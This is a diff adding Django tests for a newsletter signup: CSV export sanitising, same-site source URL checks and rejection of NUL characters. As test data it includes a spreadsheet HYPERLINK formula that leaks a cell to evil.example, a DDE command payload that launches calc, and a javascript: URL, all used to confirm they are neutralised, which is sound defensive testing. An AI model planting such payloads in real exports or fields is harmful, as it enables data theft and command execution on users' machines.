@@ -2,9 +2,13 @@
 
 from __future__ import annotations
 
+import csv
+import io
+
 import pytest
 from django.core import mail
 from django.test import Client, override_settings
+from django.urls import reverse
 
 from newsletter.models import Subscriber
 
@@ -99,3 +103,78 @@ def test_two_proxies_and_a_short_header(newsletter):
     ]
     # Fewer entries than proxies: not through our proxies, so the connection's own address counts.
     assert signup("b@example.org", ip="192.0.2.50", forwarded_for="203.0.113.7").status_code == 200
+
+
+# Item 5: what reaches the subscriber export ------------------------------------------------------
+
+FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
+
+
+def exported_rows(client) -> list[list[str]]:
+    url = reverse(Subscriber.snippet_viewset.get_url_name("list"))
+    response = client.get(url, {"export": "csv"})
+    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
+    text = b"".join(response.streaming_content).decode()
+    return list(csv.reader(io.StringIO(text)))
+
+
+def test_a_formula_in_the_referer_or_the_address_never_reaches_the_csv_as_a_formula(newsletter, superuser):
+    assert signup("reader@example.org", headers={**JSON, "HTTP_REFERER": FORMULA}).status_code == 200
+    assert (
+        signup("=1+2@example.org", headers={**JSON, "HTTP_REFERER": "@SUM(1+1)*cmd|' /C calc'!A0"}).status_code == 200
+    )
+    assert set(Subscriber.objects.values_list("source_url", flat=True)) == {""}
+    client = Client()
+    client.force_login(superuser)
+    _header, *rows = exported_rows(client)
+    cells = [cell for row in rows for cell in row]
+    assert "'=1+2@example.org" in cells  # shown as the text it is
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+
+@pytest.mark.parametrize(
+    ("source", "stored"),
+    [
+        ("/local/harbor-story/", "http://testserver/local/harbor-story/"),
+        ("http://testserver/local/", "http://testserver/local/"),
+        ("https://evil.example/local/", ""),
+        ("//evil.example/local/", ""),
+        ("javascript:alert(1)", ""),
+    ],
+)
+def test_only_same_site_http_urls_are_kept_as_the_source(newsletter, source, stored):
+    assert signup("reader@example.org", source=source).status_code == 200
+    assert Subscriber.objects.get().source_url == stored
+
+
+# Item 6: NUL characters ----------------------------------------------------------------------------
+
+
+def test_a_nul_in_the_newsletter_parameter_is_a_400(newsletter):
+    assert Client().get(SIGNUP, {"newsletter": "\x00"}).status_code == 400
+    assert Client().get(SIGNUP, {"newsletter": "morning\x00ledger"}).status_code == 400
+    response = signup("reader@example.org", newsletter="\x00")
+    assert response.status_code == 400 and response.json()["errors"]["__all__"]
+    assert not Subscriber.objects.exists()
+
+
+def test_a_nul_in_the_referer_is_never_stored(newsletter):
+    response = signup("reader@example.org", headers={**JSON, "HTTP_REFERER": "http://testserver/local/\x00story"})
+    assert response.status_code == 200
+    assert "\x00" not in Subscriber.objects.get().source_url
+
+
+@pytest.mark.parametrize("field", ["email", "source", "website"])
+def test_a_nul_in_any_form_field_is_a_form_error(newsletter, field):
+    fields = {"email": "reader@example.org", field: "x\x00y"}
+    response = Client().post(SIGNUP, {"newsletter": "morning-ledger", **fields}, **JSON)
+    assert response.status_code in (200, 400)  # the honeypot pretends
+    assert not Subscriber.objects.exclude(source_url="").exists()
+    assert "\x00" not in "".join(Subscriber.objects.values_list("email", flat=True))
+
+
+@pytest.mark.parametrize(
+    "url", ["/?page=%00", "/local/?page=%00", "/%00/", "/feeds/rss/?x=%00", "/admin/pages/search/?q=%00"]
+)
+def test_a_nul_anywhere_in_a_public_url_is_a_400(tree, url):
+    assert Client().get(url).status_code == 400
